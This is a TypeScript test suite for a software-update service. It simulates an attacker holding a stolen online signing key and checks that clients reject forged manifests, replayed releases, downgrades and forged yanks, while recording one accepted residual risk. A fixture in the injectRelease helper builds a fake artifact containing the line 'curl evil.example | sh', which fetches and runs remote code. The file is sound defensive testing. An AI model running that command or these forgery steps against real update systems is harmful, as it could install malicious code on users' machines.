/**
 * Attacker capability: THE ONLINE KEY (`UPDRAFT_ONLINE_KEY` stolen from the Worker) together with a
 * way to deliver what it signs: write access to KV (the Worker then serves it) or a position in the
 * network (a man in the middle). docs/protocol.md §2: this must not be enough to make a client install bytes
 * the release key did not sign, nor to downgrade a client. The online key signs snapshots only.
 */
import { describe, expect, it } from 'vitest';
import type { ReleasePayload, YankPayload } from '../../src/protocol/documents.ts';
import { sha256Hex } from '../../src/protocol/encoding.ts';
import { signDocument } from '../../src/protocol/jws.ts';
import { generateKeyPair } from '../../src/protocol/keys.ts';
import { artifactKey } from '../../src/worker/storage/projection.ts';
import { clearStateCache } from '../../src/worker/storage/state-cache.ts';
import { admin, signYank } from '../worker/support/fixtures.ts';
import {
  expectRefusal,
  genuineApp,
  listing,
  manifestOf,
  mitm,
  ORIGIN,
  offered,
  onCheck,
  overwriteObject,
  payloadOf,
  readProjection,
  resignSnapshot,
  stolenOnlineKey,
  victim,
  workerFetch,
  writeProjection,
  yankListing,
} from './attacker.ts';

const utf8 = new TextEncoder();

/**
 * The attacker's own release 1.2.0 (their bytes, uploaded straight into R2), signed by `signer`,
 * listed in a snapshot re-signed with the online key, and written into the KV projection: the
 * Worker offers it to every client on the channel.
 */
async function injectRelease(app: string, signer: Parameters<typeof signDocument>[2]): Promise<void> {
  const bytes = utf8.encode('#!/bin/sh\ncurl evil.example | sh\n');
  const file = `${app}-1.2.0.tar.gz`;
  await overwriteObject(artifactKey(app, '1.2.0', 'linux', 'x64', file), bytes);
  const payload: ReleasePayload = {
    app,
    version: '1.2.0',
    published_at: '2026-11-22T12:00:00Z',
    notes: 'urgent security fix',
    mandatory: true,
    critical: true,
    requires: '*',
    artifacts: [{ platform: 'linux', arch: 'x64', file, sha256: await sha256Hex(bytes), size: bytes.length }],
  };
  const manifest = await signDocument('release', payload, signer);
  const projection = await readProjection(app);
  projection.releases['1.2.0'] = manifest;
  const entry = await listing('1.2.0', manifest);
  projection.snapshot = await resignSnapshot(projection.snapshot, (p) => ({
    ...p,
    releases: [...p.releases, entry],
  }));
  await writeProjection(app, 'stable', projection);
}

describe('attacker with the online key and KV write access: forged manifests', () => {
  it('a manifest signed by an unknown key, listed in a snapshot signed with the online key: release_invalid', async () => {
    const { app } = await genuineApp(['1.0.0', '1.1.0']);
    await injectRelease(app, (await generateKeyPair()).privateJwk);

    const client = await victim({ app, currentVersion: '1.1.0' });
    await expectRefusal(client.check(), 'release_invalid');
  });

  it('a manifest signed by the ONLINE key itself (wrong role), listed in a re-signed snapshot: release_invalid', async () => {
    const { app } = await genuineApp(['1.0.0', '1.1.0']);
    await injectRelease(app, stolenOnlineKey());

    const client = await victim({ app, currentVersion: '1.1.0' });
    await expectRefusal(client.check(), 'release_invalid');
  });
});

describe('attacker with the online key in the network: replayed release documents', () => {
  it("app A's genuine 1.1.0 manifest served to app B, with B's snapshot re-signed to list it: release_mismatch", async () => {
    const a = await genuineApp(['1.0.0', '1.1.0'], 'sec-a');
    const b = await genuineApp(['1.0.0'], 'sec-b');
    const foreign = manifestOf(a.manifests, '1.1.0');
    const [artifact] = payloadOf('release', foreign).artifacts;
    if (!artifact) throw new Error('no artifact');

    const fetch = mitm(
      workerFetch,
      onCheck(async (answer) => ({
        status: 'update',
        channel: answer.channel,
        version: '1.1.0',
        mandatory: false,
        artifact: {
          url: `${ORIGIN}/v1/apps/${a.app}/artifacts/1.1.0/linux-x64/${artifact.file}`,
          sha256: artifact.sha256,
          size: artifact.size,
        },
        signed: {
          snapshot: await resignSnapshot(answer.signed.snapshot, async (p) => ({
            ...p,
            releases: [...p.releases, await listing('1.1.0', foreign)],
          })),
          release: foreign,
        },
      })),
    );
    const client = await victim({ app: b.app, currentVersion: '1.0.0', fetch });
    await expectRefusal(client.check(), 'release_mismatch');
  });

  it('the genuine 1.0.1 manifest served as 1.0.2, with a snapshot re-signed to list it as 1.0.2: release_mismatch', async () => {
    const { app, manifests } = await genuineApp(['1.0.0', '1.0.1']);
    const older = manifestOf(manifests, '1.0.1');
    const [artifact] = payloadOf('release', older).artifacts;
    if (!artifact) throw new Error('no artifact');

    const fetch = mitm(
      workerFetch,
      onCheck(async (answer) => ({
        ...answer,
        status: 'update',
        version: '1.0.2',
        mandatory: true,
        artifact: {
          url: `${ORIGIN}/v1/apps/${app}/artifacts/1.0.1/linux-x64/${artifact.file}`,
          sha256: artifact.sha256,
          size: artifact.size,
        },
        signed: {
          snapshot: await resignSnapshot(answer.signed.snapshot, async (p) => ({
            ...p,
            releases: [...p.releases, await listing('1.0.2', older)],
          })),
          release: older,
        },
      })),
    );
    const client = await victim({ app, currentVersion: '1.0.0', fetch });
    await expectRefusal(client.check(), 'release_mismatch');
  });
});

describe('attacker with the online key in the network: downgrades', () => {
  it('a snapshot re-signed to offer only the older 1.0.0 to a client on 1.1.0, no yank: downgrade', async () => {
    const { app, manifests } = await genuineApp(['1.0.0', '1.1.0']);
    const older = manifestOf(manifests, '1.0.0');
    const [artifact] = payloadOf('release', older).artifacts;
    if (!artifact) throw new Error('no artifact');

    const fetch = mitm(
      workerFetch,
      onCheck(async (answer) => ({
        status: 'update',
        channel: answer.channel,
        version: '1.0.0',
        mandatory: true,
        artifact: {
          url: `${ORIGIN}/v1/apps/${app}/artifacts/1.0.0/linux-x64/${artifact.file}`,
          sha256: artifact.sha256,
          size: artifact.size,
        },
        signed: {
          // Listing 1.0.0 alone (the genuine snapshot, pruned, lists only the live 1.1.0).
          snapshot: await resignSnapshot(answer.signed.snapshot, async (p) => ({
            ...p,
            releases: [await listing('1.0.0', older)],
          })),
          release: older,
        },
      })),
    );
    const client = await victim({ app, currentVersion: '1.1.0', fetch });
    await expectRefusal(client.check(), 'downgrade');
  });

  it('a yank of 1.1.0 signed by the online key, projected into KV so the Worker itself offers the rollback: yank_invalid', async () => {
    const { app, manifests } = await genuineApp(['1.0.0', '1.1.0']);
    const payload: YankPayload = {
      app,
      version: '1.1.0',
      reason: 'trust me',
      rollback_to: '1.0.0',
      yanked_at: '2026-11-22T12:00:00Z',
    };
    const forged = await signDocument('yank', payload, stolenOnlineKey());
    const projection = await readProjection(app);
    projection.yanks['1.1.0'] = forged;
    // The rollback target's genuine manifest rides along, as a real yank's does (the pruned snapshot
    // no longer lists 1.0.0, which 1.1.0 supersedes for everyone).
    projection.releases['1.0.0'] = manifestOf(manifests, '1.0.0');
    const entry = await yankListing('1.1.0', '1.0.0', forged);
    projection.snapshot = await resignSnapshot(projection.snapshot, (p) => ({ ...p, yanked: [entry] }));
    await writeProjection(app, 'stable', projection);

    const client = await victim({ app, currentVersion: '1.1.0' });
    await expectRefusal(client.check(), 'yank_invalid');
  });
});

describe('RESIDUAL RISK: what the online key CAN do (docs/security.md)', () => {
  it('re-offers a yanked (but release-key-signed) 1.1.0 to a client on 1.0.0 by dropping the yank from a re-signed snapshot: accepted', async () => {
    // Withdrawal is the online key's word: a yank only lives in the snapshot for clients that are
    // not on the yanked version. The bytes are still ones the release key signed.
    const { app, manifests } = await genuineApp(['1.0.0', '1.1.0']);
    const yanked = await admin(`/apps/${app}/yanks`, {
      method: 'POST',
      body: { yank: await signYank(app, '1.1.0', '1.0.0') },
    });
    expect(yanked.status).toBe(201);
    clearStateCache();
    const manifest = manifestOf(manifests, '1.1.0');
    const [artifact] = payloadOf('release', manifest).artifacts;
    if (!artifact) throw new Error('no artifact');

    const fetch = mitm(
      workerFetch,
      onCheck(async (answer) => ({
        status: 'update',
        channel: answer.channel,
        version: '1.1.0',
        mandatory: false,
        artifact: {
          url: `${ORIGIN}/v1/apps/${app}/artifacts/1.1.0/linux-x64/${artifact.file}`,
          sha256: artifact.sha256,
          size: artifact.size,
        },
        signed: {
          snapshot: await resignSnapshot(answer.signed.snapshot, async (p) => ({
            ...p,
            releases: [...p.releases, await listing('1.1.0', manifest)],
            yanked: [],
          })),
          release: manifest,
        },
      })),
    );
    const client = await victim({ app, currentVersion: '1.0.0', fetch });
    expect(offered(await client.check()).version).toBe('1.1.0');
  });
});

describe('what the release key CAN do: a signed rollback is accepted', () => {
  it('a yank of 1.1.0 signed by the release key with rollback_to 1.0.0: rollback accepted, artifact verified', async () => {
    const { app, manifests } = await genuineApp(['1.0.0', '1.1.0']);
    const yanked = await admin(`/apps/${app}/yanks`, {
      method: 'POST',
      body: { yank: await signYank(app, '1.1.0', '1.0.0') },
    });
    expect(yanked.status).toBe(201);
    clearStateCache();

    const client = await victim({ app, currentVersion: '1.1.0' });
    const result = offered(await client.check());
    expect(result).toMatchObject({ status: 'rollback', version: '1.0.0', mandatory: true });
    expect(result.release).toEqual(payloadOf('release', manifestOf(manifests, '1.0.0')));

    const bytes = await client.download(result);
    expect(bytes.length).toBe(result.artifact.size);
    expect(await sha256Hex(bytes)).toBe(result.artifact.sha256);
  });
});
